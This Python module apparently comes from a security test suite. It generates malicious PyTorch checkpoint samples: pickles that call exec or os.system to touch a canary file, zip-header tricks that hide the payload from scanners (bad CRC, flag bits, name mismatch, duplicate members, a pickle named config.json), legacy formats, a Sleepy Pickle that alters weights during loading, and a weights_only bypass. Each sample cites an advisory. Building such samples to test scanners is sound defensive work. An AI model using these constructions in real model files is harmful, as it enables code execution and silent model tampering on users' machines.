"""PyTorch checkpoints with payloads: zip tricks, legacy formats, Sleepy Pickle."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from trainguard.samples.assembler import PickleAsm
from trainguard.samples.base import Reduce, malicious, py_touch, sh_touch
from trainguard.samples.torchfmt import (
    emit_tensor,
    float_bytes,
    state_dict_pickle,
    write_legacy_tar,
)
from trainguard.samples.zipwriter import (
    TORCH_FLAGS,
    ZipMember,
    replace_member,
    torch_members,
    write_zip,
    zip_bytes,
)

_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
_WEIGHTS = [1.0, 2.0, 3.0, 4.0]
_PKL = "archive/data.pkl"


def _payload_members(canary: Path) -> list[ZipMember]:
    data = state_dict_pickle({"weight": ("0", (4,))}, _payload(canary))
    return torch_members(data, {"0": float_bytes(_WEIGHTS)})


def _clean_members() -> list[ZipMember]:
    data = state_dict_pickle({"weight": ("0", (4,))})
    return torch_members(data, {"0": float_bytes(_WEIGHTS)})


def _payload(canary: Path) -> Callable[[PickleAsm], None]:
    """Adds ``'_meta': exec(...)`` to the dict on top of the stack."""

    def add(a: PickleAsm) -> None:
        a.str_("_meta").call("builtins", "exec", py_touch(canary)).setitem()

    return add


def torch_zip_with_payload(canary: Path) -> bytes:
    """A torch zip checkpoint whose ``data.pkl`` execs the canary payload."""
    return zip_bytes(_payload_members(canary))


@malicious(
    "torch-zip-data-pkl",
    "PyTorch zip checkpoint with exec in archive/data.pkl",
    "a real state dict (weights load fine) plus one extra item whose value is an exec call",
    loader="torch",
)
def torch_zip(out: Path, canary: Path) -> Path:
    path = out / "model.pt"
    path.write_bytes(torch_zip_with_payload(canary))
    return path


@malicious(
    "torch-save-reduce",
    "torch.save of a checkpoint holding a __reduce__ object",
    "written by torch.save itself: the payload object reduces to os.system",
    loader="torch",
    requires=("torch",),
)
def torch_save_reduce(out: Path, canary: Path) -> Path:
    import torch

    path = out / "checkpoint_hook.pt"
    model = torch.nn.Linear(4, 2)
    torch.save(
        {"model": model.state_dict(), "epoch": 1, "hook": Reduce(os.system, sh_touch(canary))}, path
    )
    return path


@malicious(
    "torch-zip-bad-crc",
    "PyTorch zip whose data.pkl CRC is wrong",
    "Python's zipfile refuses the member, torch does not check CRCs",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-10156",
    loader="torch",
)
def torch_zip_bad_crc(out: Path, canary: Path) -> Path:
    members = replace_member(_payload_members(canary), _PKL, crc=0xDEADBEEF)
    return write_zip(out / "bad_crc.pt", members)


@malicious(
    "torch-zip-local-flag-bits",
    "PyTorch zip with encryption flag bits in a local header",
    "bits 0, 5 and 6 (encrypted, patched, strong encryption) set in data.pkl's "
    "local header; torch reads flags from the central directory only",
    advisory=f"{_PS}/GHSA-w8jq-xcqf-f792",
    loader="torch",
)
def torch_zip_local_flags(out: Path, canary: Path) -> Path:
    members = replace_member(
        _payload_members(canary), _PKL, local_flags=TORCH_FLAGS | 0x1 | 0x20 | 0x40
    )
    return write_zip(out / "local_flag_bits.pt", members)


@malicious(
    "torch-zip-central-flag-bits",
    "PyTorch zip with the encrypted bit in the directory",
    "the CVE-2025-1945 proof set bit 0 in both headers; torch 2.13's miniz "
    "now refuses such a member, so it no longer loads",
    advisory=f"{_PS}/GHSA-w8jq-xcqf-f792",
    loader="torch",
    fires=False,
)
def torch_zip_central_flags(out: Path, canary: Path) -> Path:
    members = replace_member(_payload_members(canary), _PKL, flags=TORCH_FLAGS | 0x1)
    return write_zip(out / "central_flag_bits.pt", members)


@malicious(
    "torch-zip-name-mismatch",
    "PyTorch zip whose local header names another file",
    "the central directory says archive/data.pkl, the local header says "
    "archive/readme.txt; torch trusts the directory, zipfile refuses",
    advisory=f"{_PS}/GHSA-7q5r-7gvp-wc82",
    loader="torch",
)
def torch_zip_name_mismatch(out: Path, canary: Path) -> Path:
    members = replace_member(_payload_members(canary), _PKL, local_name="archive/readme.txt")
    return write_zip(out / "name_mismatch.pt", members)


@malicious(
    "torch-zip-duplicate-name",
    "PyTorch zip with two archive/data.pkl members",
    "a clean data.pkl first, the payload last; torch (like zipfile) uses the "
    "last, a scanner that stops at the first sees a clean model",
    loader="torch",
)
def torch_zip_duplicate(out: Path, canary: Path) -> Path:
    members = _clean_members()[:1] + _payload_members(canary)
    return write_zip(out / "duplicate_name.pt", members)


@malicious(
    "torch-zip-config-json",
    "Pickle payload in a zip member named config.json",
    "data.pkl is clean; archive/config.json is a pickle that torch.load "
    "unpickles when called with pickle_file='config.json'",
    advisory=f"{_PS}/GHSA-769v-p64c-89pr",
    loader="torch-pickle-file",
)
def torch_zip_config_json(out: Path, canary: Path) -> Path:
    payload = state_dict_pickle({"weight": ("0", (4,))}, _payload(canary))
    members = _clean_members()
    members.insert(1, ZipMember("archive/config.json", payload))
    return write_zip(out / "model_config_json.pt", members)


@malicious(
    "torch-legacy-payload",
    "Legacy (non-zip) torch.save format with a payload",
    "_use_new_zipfile_serialization=False: magic, protocol and sys-info "
    "pickles, then the object pickle",
    loader="torch",
    requires=("torch",),
)
def torch_legacy(out: Path, canary: Path) -> Path:
    import torch

    path = out / "legacy.pt"
    torch.save(
        {"weight": torch.ones(4), "hook": Reduce(exec, py_touch(canary))},
        path,
        _use_new_zipfile_serialization=False,
    )
    return path


@malicious(
    "torch-legacy-tar",
    "Pre-1.6 torch tar checkpoint with a payload",
    "a tar with storages, tensors and pickle members; torch 2.13 still "
    "reads it when weights_only=False",
    loader="torch",
)
def torch_legacy_tar(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).empty_dict()
    a.str_("epoch").push(7).setitem()
    a.str_("_meta").call("builtins", "exec", py_touch(canary)).setitem()
    return write_legacy_tar(out / "legacy_tar.pt", a.stop().getvalue())


@malicious(
    "torch-sleepy-pickle",
    "Sleepy Pickle: weights changed in place while loading",
    "REDUCE on torch.Tensor.mul_ doubles the weight tensor after it is built; "
    "nothing runs a command and the file holds the intended weights",
    advisory="https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/",
    loader="torch-check-weights",
)
def torch_sleepy(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4).empty_dict()
    a.str_("state_dict").global_("collections", "OrderedDict").empty_tuple().reduce()
    a.str_("weight")
    emit_tensor(a, "0", (4,)).binput(200)
    a.setitem().setitem()
    a.str_("intended").push(list(_WEIGHTS)).setitem()
    a.str_("canary").str_(str(canary)).setitem()
    # The tamper: torch.Tensor.mul_(weight, 2.0), result dropped.
    a.global_("torch", "Tensor.mul_").binget(200).push(2.0).tuple2().reduce().pop()
    members = torch_members(a.stop().getvalue(), {"0": float_bytes(_WEIGHTS)})
    return write_zip(out / "sleepy.pt", members)


@malicious(
    "torch-weights-only-torchscript",
    "TorchScript-looking zip for torch.load(weights_only=True)",
    "CVE-2025-32434: torch <= 2.5.1 sent archives with constants.pkl to "
    "torch.jit.load even under weights_only=True. torch 2.13 refuses them",
    advisory="https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6",
    loader="torch-weights-only",
    fires=False,
)
def torch_weights_only_torchscript(out: Path, canary: Path) -> Path:
    members = _payload_members(canary)
    members.insert(
        1, ZipMember("archive/constants.pkl", PickleAsm(2).proto(2).empty_tuple().stop().getvalue())
    )
    return write_zip(out / "scripted.pt", members)
